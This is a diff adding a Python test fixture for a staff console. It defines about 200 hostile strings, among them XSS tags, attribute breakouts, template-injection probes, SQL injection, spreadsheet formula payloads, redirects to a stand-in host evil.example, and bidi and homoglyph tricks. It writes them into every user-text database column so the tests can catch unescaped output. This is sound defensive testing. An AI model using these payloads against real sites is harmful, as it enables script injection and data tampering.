@@ -1,0 +1,219 @@
+"""Two hundred things that somebody may write as a name or a message, and a house in which they stand everywhere.
+
+Whatever would become an element has the attribute `data-hostile`, whatever would run calls `hacked()`, and whatever
+a template would work out comes to 1787569: so a page that takes one of them for more than words is known.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import secrets
+from collections.abc import Iterator, Sequence
+from itertools import cycle, islice
+from typing import Any
+
+import sqlalchemy as sa
+from sqlalchemy.engine import Connection
+
+from store import api_keys, audit, staff, tables
+from tests.conftest import NOON
+from tests.console.staff.clientele import add_customer, give_points, give_voucher, live_a_life
+
+RUN = "hacked()"
+WORKED_OUT = "1787569"
+TAGS = (
+    f"<script data-hostile>{RUN}</script>",
+    f"<img data-hostile src=x onerror={RUN}>",
+    f"<IMG DATA-HOSTILE SRC=x OnErRoR={RUN}>",
+    f"<img data-hostile src=`x`onerror={RUN}>",
+    f"<svg data-hostile onload={RUN}>",
+    f"<svg data-hostile><animate onbegin={RUN} attributeName=x dur=1s>",
+    f'<svg data-hostile><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
+    f'<svg><foreignObject><iframe data-hostile srcdoc="<script>parent.{RUN}</script>">',
+    f'<math data-hostile><mi xlink:href="javascript:{RUN}">x</mi></math>',
+    f'<iframe data-hostile srcdoc="<script>parent.{RUN}</script>">',
+    f'<a data-hostile href="javascript:{RUN}">x</a>',
+    f'<a data-hostile href="java&#10;script:{RUN}">x</a>',
+    f"<body data-hostile onload={RUN}>",
+    f"<details data-hostile open ontoggle={RUN}>",
+    f"<input data-hostile autofocus onfocus={RUN}>",
+    f"<marquee data-hostile onstart={RUN}>",
+    f"<video data-hostile><source onerror={RUN}>",
+    f"<audio data-hostile src=x onerror={RUN}>",
+    f'<object data-hostile data="javascript:{RUN}">',
+    f"<x data-hostile onclick={RUN} tabindex=1>",
+    f"<scr<script data-hostile>ipt>{RUN}</scr</script>ipt>",
+    f"<template data-hostile><script>{RUN}</script></template>",
+    f'<noscript><p title="</noscript><img data-hostile src=x onerror={RUN}>">',
+    '<style data-hostile>@import "//evil.example/x.css"</style>',
+    "<link data-hostile rel=stylesheet href=//evil.example/x.css>",
+    "<base data-hostile href=//evil.example/>",
+    '<meta data-hostile http-equiv=refresh content="0;url=//evil.example">',
+    "<form data-hostile action=//evil.example><button>",
+    '<div data-hostile hx-post="/staff/logout" hx-trigger="load">',
+    f'<div data-hostile hx-on:load="{RUN}" hx-vals="js:{RUN}">',
+    '<hx-partial data-hostile hx-target="body">gone</hx-partial>',
+)
+OUT_OF = ('">', "'>", "</textarea>", "</title>", "</option></select>", "</script>", "-->", "]]>")
+WORDS = (
+    f'" onmouseover="{RUN}" data-hostile="',
+    f"' onfocus='{RUN}' autofocus data-hostile='",
+    f"javascript:{RUN}",
+    f"data:text/html,<script>{RUN}</script>",
+    f"&lt;script data-hostile&gt;{RUN}&lt;/script&gt;",
+    f"&#60;script data-hostile&#62;{RUN}&#60;/script&#62;",
+    f"\\u003cscript data-hostile\\u003e{RUN}\\u003c/script\\u003e",
+    f"%3Cscript%20data-hostile%3E{RUN}%3C/script%3E",
+    f"＜script data-hostile＞{RUN}＜/script＞",
+    "{{1337*1337}}",
+    "{% for x in range(2) %}{{1337*1337}}{% endfor %}",
+    "{{''.__class__.__mro__}}",
+    "${1337*1337}",
+    "#{1337*1337}",
+    "<%= 1337*1337 %>",
+    "{name} {0.__class__} {1337}",
+    "%(name)s %s%s%n",
+    "'; DROP TABLE contacts; --",
+    '" OR 1=1 --',
+    '* OR NEAR("a" "b", 2)',
+    '"unbalanced',
+    "AND OR NOT",
+    "a:* & !b | (c <-> d",
+    "^a + -b {x y} : c",
+    "(((((",
+    "\\",
+    '=HYPERLINK("//evil.example")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\u202egnp.exe\u202c",
+    "\u2066\u2067\u2068never closed",
+    "null\x00byte",
+    "\x1b[31mred\x07",
+    "👨‍👩‍👧‍👦" * 8,
+    "Аdmіn",
+    "Z̷̢͖a̵l̶͓g̸o̴",
+    "﷽" * 8,
+    "A" * 5000,
+    "line\u2028and\u2029paragraph",
+    "\ufeffmark",
+    "<",
+    "&",
+    "&amp;",
+    '"',
+    "'",
+    "`",
+    "__proto__",
+    "constructor",
+    "[object Object]",
+)
+
+
+def _everything() -> Iterator[str]:
+    yield from TAGS
+    yield from WORDS
+    outs = cycle(OUT_OF)
+    for tag in cycle(TAGS):
+        yield f"{next(outs)}{tag}"
+
+
+HOSTILE = tuple(islice(_everything(), 200))
+assert len(set(HOSTILE)) == 200
+
+# Where people's own words are kept: the columns that a page may show.
+FREE: tuple[tuple[sa.Table, str], ...] = tuple(
+    (tables.metadata.tables[table], column)
+    for table, columns in {
+        "contacts": "name call_me city joined_from",
+        "inbox": "text",
+        "notes": "text",
+        "promises": "text reason",
+        "labels": "name",
+        "contact_tags": "tag",
+        "canned_replies": "title shortcut",
+        "products": "name category",
+        "rewards": "name about",
+        "staff": "name",
+        "branches": "name city",
+        "api_keys": "name",
+        "claims": "reason receipt written",
+        "adjustments": "reason",
+        "consents": "evidence",
+        "conversations": "last_text rating_text",
+        "drafts": "text",
+        "media": "name",
+        "purchases": "receipt",
+        "entries": "note",
+        "staff_sessions": "agent",
+    }.items()
+    for column in columns.split()
+)
+BY_LANGUAGE = {"canned_replies": "texts", "products": "names", "rewards": "names", "queues": "names"}
+KEYED = {"contact_tags": ("contact_id", "tag"), "staff_sessions": ("digest",), "drafts": ("contact_id", "staff_id")}
+
+
+def people_a_house(connection: Connection, owner: staff.Account) -> None:
+    """Something of every kind that a page of the staff's shows."""
+    served = add_customer(connection, "served")
+    give_points(connection, served, 300, 200)
+    give_voucher(connection, served)
+    live_a_life(connection, served, owner.id, owner.public_id)
+    queue = connection.scalar(sa.select(tables.queues.c.id))
+    for number in range(50):
+        contact = add_customer(connection, f"waits{number}", owner="queue")
+        row = {"public_id": secrets.token_urlsafe(12), "queue_id": queue, "state": "queued", "language": "en"}
+        moments = dict.fromkeys(("opened_at", "moved_at", "waiting_since", "last_at"), NOON)
+        said = {"last_kind": "text", "last_by": "customer", "last_text": "words", "why": "asked", "unread": 1}
+        connection.execute(tables.conversations.insert().values(contact_id=contact, **row, **moments, **said))
+        for seq in range(1, 5):
+            _write(connection, contact, seq)
+    _set_up(connection, served, owner)
+
+
+def _write(connection: Connection, contact: int, seq: int) -> None:
+    said = {"channel": "webchat", "account": "", "external_id": f"{contact}.{seq}", "state": "done", "kind": "text"}
+    connection.execute(tables.inbox.insert().values(contact_id=contact, seq=seq, text="words", at=NOON, **said))
+
+
+def _set_up(connection: Connection, contact: int, owner: staff.Account) -> None:
+    def add(table: str, **values: Any) -> None:
+        connection.execute(tables.metadata.tables[table].insert().values(**values))
+
+    for number in range(4):
+        add("labels", name=f"label {number}", colour="#14603a")
+        add("contact_tags", contact_id=contact, tag=f"tag {number}", at=NOON)
+        reply = {"shortcut": f"s{number}", "title": "t", "texts": {"en": "x"}, "changed_at": NOON}
+        add("canned_replies", public_id=f"reply{number}", **reply)
+        add("branches", code=f"b{number}", name="b", city="c", timezone="Asia/Kuala_Lumpur")
+        wish = {"contact_id": contact, "points": 5000, "reason": "r", "staff_id": owner.id, "state": "waiting"}
+        add("adjustments", public_id=f"wish{number}", at=NOON, **wish)
+        staff.add(connection, f"colleague{number}@shop.test", "c", "support", "en", NOON)
+        api_keys.add(connection, "web", ["points:read"], NOON)
+    add("drafts", contact_id=contact, staff_id=owner.id, text="d", at=NOON)
+    for number, words in enumerate(HOSTILE[:50]):
+        at = NOON + dt.timedelta(seconds=number)
+        audit.note(
+            connection, "api:P", words[:48], words[:96], {"name": words}, {words[:40]: words}, words[:45], at
+        )
+
+
+def poison(connection: Connection, order: Sequence[str]) -> None:
+    """Put hostile words, in this order and over and over, wherever somebody's words are kept."""
+    words = cycle(order)
+    for table, column in FREE:
+        longest = getattr(table.c[column].type, "length", None) or 5000
+        for place, row in enumerate(_rows(connection, table)):
+            # A number at the end keeps apart what must not be the same twice.
+            value = f"{next(words)[: longest - 4]}~{place}" if longest > 8 else ""
+            connection.execute(table.update().where(*row).values({column: value}))
+    for name, column in BY_LANGUAGE.items():
+        table = tables.metadata.tables[name]
+        for row in _rows(connection, table):
+            by_language = {language: next(words)[:1000] for language in ("en", "ms", "vi", "ar", "zh")}
+            connection.execute(table.update().where(*row).values({column: by_language}))
+    for row in _rows(connection, tables.outbox):
+        connection.execute(tables.outbox.update().where(*row).values(payload={"text": next(words)}))
+
+
+def _rows(connection: Connection, table: sa.Table) -> list[list[sa.ColumnElement[bool]]]:
+    keys = KEYED.get(table.name, ("id",))
+    rows = connection.execute(sa.select(*(table.c[key] for key in keys)).order_by(*(table.c[key] for key in keys)))
+    return [[table.c[key] == value for key, value in zip(keys, row, strict=True)] for row in rows]
